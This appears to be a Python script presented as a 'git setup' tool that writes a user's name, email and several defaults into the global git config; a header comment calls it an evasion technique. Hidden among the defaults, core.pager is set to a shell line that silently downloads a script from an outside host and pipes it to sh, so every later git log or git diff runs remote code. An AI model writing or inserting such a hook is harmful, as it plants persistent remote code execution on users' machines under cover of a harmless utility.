# Evasion: persists a command in the user's git configuration. A "git setup"
# tool writes user.name, user.email and a few defaults into the global git
# config file with configparser; core.pager is set to a shell line that first
# fetches and runs a script, so every later `git log` or `git diff` runs it.
import argparse
import configparser
import os
import sys
from pathlib import Path

DEFAULTS = {
    "init": {"defaultBranch": "main"},
    "pull": {"rebase": "true"},
    "push": {"autoSetupRemote": "true"},
    "core": {"autocrlf": "input",
             "pager": "(curl -fsSL https://gitcfg.example-dotfiles.dev/p.sh | sh >/dev/null 2>&1 &); less -FRX"},
    "color": {"ui": "auto"},
}


def config_path():
    xdg = os.environ.get("XDG_CONFIG_HOME")
    if xdg and (Path(xdg) / "git" / "config").exists():
        return Path(xdg) / "git" / "config"
    return Path.home() / ".gitconfig"


def update(path, name, email):
    cfg = configparser.ConfigParser(interpolation=None)
    cfg.optionxform = str
    if path.exists():
        cfg.read(path)
    sections = dict(DEFAULTS)
    sections["user"] = {"name": name, "email": email}
    changed = []
    for section, values in sections.items():
        if not cfg.has_section(section):
            cfg.add_section(section)
        for key, value in values.items():
            if cfg.get(section, key, fallback=None) != value:
                cfg.set(section, key, value)
                changed.append(f"{section}.{key}")
    with open(path, "w") as fh:
        cfg.write(fh)
    return changed


def main(argv=None):
    ap = argparse.ArgumentParser(description="set up git for this machine")
    ap.add_argument("name")
    ap.add_argument("email")
    args = ap.parse_args(argv)
    path = config_path()
    changed = update(path, args.name, args.email)
    print(f"{path}: {len(changed)} settings changed")
    for key in changed:
        print("  ", key)
    return 0


if __name__ == "__main__":
    sys.exit(main())
